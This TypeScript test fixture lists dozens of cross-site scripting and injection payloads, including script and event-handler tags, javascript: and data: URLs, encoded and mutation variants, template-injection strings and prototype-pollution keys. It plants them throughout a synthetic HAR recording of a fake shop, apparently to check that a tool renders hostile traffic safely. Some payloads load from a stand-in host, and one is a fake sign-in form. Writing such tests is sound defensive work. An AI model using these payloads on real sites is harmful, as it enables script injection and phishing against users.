import { type Exchange, har } from './har.ts'

/** What scripts leave behind where one runs, for a test to find. */
export const TRACE = 'asbuiltWasHere'
const RUN = `window.${TRACE}=1;alert(1)`
const FAR = 'https://far.example'

/** Texts that run or load something wherever they are taken for more than text. */
export const payloads: readonly string[] = [
  ...[
    'img',
    'svg',
    'body',
    'iframe',
    'video',
    'input',
    'details',
    'object',
    'marquee',
    'style',
    'link',
    'math',
  ].flatMap(tag => [
    `<${tag} src=x onerror="${RUN}" onload="${RUN}" onfocus="${RUN}" autofocus ontoggle="${RUN}" open>`,
    `"><${tag} src="${FAR}/${tag}" href="${FAR}/${tag}" data="${FAR}/${tag}" poster="${FAR}/p" onerror=${RUN}>`,
    `'><${tag}/onload='${RUN}'/src='//far.example/${tag}'>`,
  ]),
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<script src="${FAR}/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="${FAR}/s.svg#a"/></svg>`,
  `<svg><foreignObject><iframe src="${FAR}/"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<base href="${FAR}/">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<form action="${FAR}/"><button>Sign in</button></form>`,
  `<a href="javascript:${RUN}">open</a>`,
  `<a href="${FAR}/" ping="${FAR}/ping" target=_blank>open</a>`,
  `<iframe srcdoc="<script>parent.${TRACE}=1</script>"></iframe>`,
  `<link rel=stylesheet href="${FAR}/a.css"><link rel=prefetch href="${FAR}/b"><link rel=preconnect href="${FAR}">`,
  `<style>@import url(${FAR}/c.css);body{background:url(${FAR}/d.png)}</style>`,
  `<div style="background:url(${FAR}/e.png);position:fixed;inset:0;z-index:99999">covered</div>`,
  `<img srcset="${FAR}/f.png 2x" src="${FAR}/g.png">`,
  `<object data="data:text/html,<script>parent.${TRACE}=1</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `vbscript:msgbox(1)`,
  `[open](javascript:${RUN})`,
  `![picture](${FAR}/h.png)`,
  `<${FAR}/i>`,
  `[a]: javascript:${RUN}`,
  '```\n<script>' + RUN + '</script>\n```',
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202E<script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
  `<a href="javascript&colon;${RUN}">open</a>`,
  `<img src="x\` \`<script>${RUN}</script>"\`>`,
  `<xss onpointerrawupdate="${RUN}" style="display:block">over</xss>`,
  `__proto__`,
  `constructor`,
  `toString`,
  `"; ${RUN}; "`,
  `'-${RUN}-'`,
  `\`-${RUN}-\``,
  `*/${RUN}/*`,
  `</mark></span></div><img src=x onerror="${RUN}">`,
  `x" onmouseover="${RUN}" style="position:fixed;inset:0`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `\u0000<script>${RUN}</script>`,
]

/** An application that has them everywhere: in addresses, headers, titles, field names, values, markup, messages and file names. */
export function hostile(): string {
  const origin = 'https://shop.example'
  return har(
    payloads.flatMap((payload, nth): Exchange[] => {
      const inUrl = encodeURIComponent(payload)
      return [
        {
          url: `${origin}/view/${inUrl}?note=${inUrl}`,
          title: payload,
          headers: { accept: payload.replaceAll(/[\0\r\n]/g, ' '), 'x-note': payload.replaceAll(/[\0\r\n]/g, ' ') },
          answerHeaders: { 'x-powered-by': payload.replaceAll(/[\0\r\n]/g, ' ') },
          mediaType: 'text/html',
          answer: `<!doctype html><html><head><title>Shop ${payload}</title><meta name="description" content="A shop"></head><body><nav><a href="javascript:${RUN}">Orders ${nth}</a></nav><h1>${payload}</h1><form action="${payload}" aria-label="${payload}"><label>${payload}<input name="note" required></label><button>${payload}</button></form></body></html>`,
        },
        {
          method: 'POST',
          url: `${origin}/api/notes`,
          sent: { note: payload, [payload]: nth, kind: payload.slice(0, 12) },
          status: nth % 3 === 0 ? 422 : 201,
          answer:
            nth % 3 === 0
              ? { error: { code: payload, message: payload, field: 'note' } }
              : { id: nth, note: payload, state: ['open', 'sent'][nth % 2], [payload]: payload },
        },
        { url: `${origin}/api/notes/${nth}`, answer: { id: nth, note: payload, state: 'sent' } },
        {
          url: `${origin}/pictures/${nth}.svg`,
          mediaType: 'image/svg+xml',
          answer: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${FAR}/${nth}.png"/></svg>`,
        },
      ]
    }),
  )
}
